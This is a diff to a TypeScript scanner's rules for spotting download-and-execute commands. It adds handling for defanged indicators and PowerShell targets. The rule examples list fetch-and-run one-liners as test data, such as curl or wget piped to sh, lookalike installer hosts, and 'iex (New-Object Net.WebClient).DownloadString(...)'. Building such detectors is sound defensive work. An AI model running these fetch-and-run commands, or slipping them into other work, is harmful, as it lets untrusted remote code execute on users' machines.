@@ -1,5 +1,6 @@
 import type { Hit, Rule, Segment } from "../types.js";
 import { isOfficialInstaller } from "../allowlist.js";
+import { downloadUrlsIn } from "../urls.js";
 import { SCRIPTS_AND_PROSE, hitsOf } from "./common.js";
 
 const PIPE_TO_INTERPRETER =
@@ -7,7 +8,7 @@ const PIPE_TO_INTERPRETER =
 
 /** Whether every URL in a piped download is an official installer (exact host, scanner/allowlist.ts). */
 function isOfficial(command: string): boolean {
-  const urls = command.match(/https?:\/\/[^\s"'`|)]+/gi) ?? [];
+  const urls = downloadUrlsIn(command);
   return urls.length > 0 && urls.every(isOfficialInstaller);
 }
 
@@ -20,7 +21,24 @@ const PS_DOWNLOAD_INVOKE =
  */
 function namesTarget(command: string): boolean {
   const args = command.slice(0, command.lastIndexOf("|")).replace(/^\S+/, "").replace(/<[^>\s]*>/g, "");
-  return args.split(/\s+/).some((a) => a !== "" && !/^-/.test(a) && !/^[`'"()]+$/.test(a));
+  return args.split(/\s+/).some((a) => a !== "" && !/^-/.test(a) && !/^[`'"()]+$/.test(a) && !isDefanged(a));
+}
+
+/**
+ * An indicator written so that nothing can fetch it: `hxxps://` or a host `bad[.]example` (curl
+ * reads `[.]` as a broken glob, and with globbing off as no host name). `[.]` in a path is
+ * fetched as written, so it does not count; nor does "…", the value folding could not know.
+ */
+function isDefanged(arg: string): boolean {
+  return /^[`'"(]*(?:h[x*]{2}ps?(?:\[:\]|:)\/\/|(?:[a-z]+:\/\/)?[^/\s]*\[\.\])/i.test(arg);
+}
+
+/** PowerShell download cmdlets and their switches: what is left names the target. */
+const PS_WORDS = /\b(?:iex|Invoke-Expression|DownloadString|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|Net\.WebClient|New-Object|System)\b|-UseBasicParsing\b|<[^>\s]*>/gi;
+
+/** Whether a PowerShell download names something to fetch: `iwr ... | iex` in a list of indicators (three dots for the URL) does not. */
+function namesPsTarget(command: string): boolean {
+  return command.replace(PS_WORDS, " ").split(/[\s|;()]+/).some((a) => /[\w$…]/.test(a) && !isDefanged(a));
 }
 
 /** `bash <(curl …)`, `sh -c "$(curl …)"`; group 1: what the substitution downloads, to its closing parenthesis. */
@@ -46,7 +64,7 @@ export const downloadExecuteRules: Rule[] = [
     match: (segment) => pipedDownloads(segment, false),
     examples: {
       positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -s dropper:8080/i | sh", "curl -LsSf https://astral.sh@203.0.113.5/uv/install.sh | sh"],
-      negative: ["curl -fsSL https://api.example.invalid/data | jq .", "curl -s https://example.invalid/x.json | python3 -m json.tool", "- Download and execute (`curl | sh`)", "#   curl -sSL <url> | sudo bash"],
+      negative: ["curl -fsSL https://api.example.invalid/data | jq .", "curl -s https://example.invalid/x.json | python3 -m json.tool", "- Download and execute (`curl | sh`)", "#   curl -sSL <url> | sudo bash", "- Download and run: `curl hxxps://bad[.]example/x.sh | sh`"],
     },
   },
   {
@@ -98,10 +116,10 @@ export const downloadExecuteRules: Rule[] = [
     context: "command",
     keywords: ["iex", "invoke-expression"],
     // An official installer (exact host, scanner/allowlist.ts) is SR-DLEXEC-002's, at medium.
-    match: (segment) => hitsOf(PS_DOWNLOAD_INVOKE, segment.text, (m) => !isOfficial(m[0])),
+    match: (segment) => hitsOf(PS_DOWNLOAD_INVOKE, segment.text, (m) => namesPsTarget(m[0]) && !isOfficial(m[0])),
     examples: {
       positive: ["iex (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')", "irm https://example.invalid/x.ps1 | iex"],
-      negative: ["Invoke-WebRequest https://example.invalid/data.json -OutFile data.json", "irm https://astral.sh/uv/install.ps1 | iex"],
+      negative: ["Invoke-WebRequest https://example.invalid/data.json -OutFile data.json", "irm https://astral.sh/uv/install.ps1 | iex", "- Download and run: `iwr ... | iex`."],
     },
   },
   {
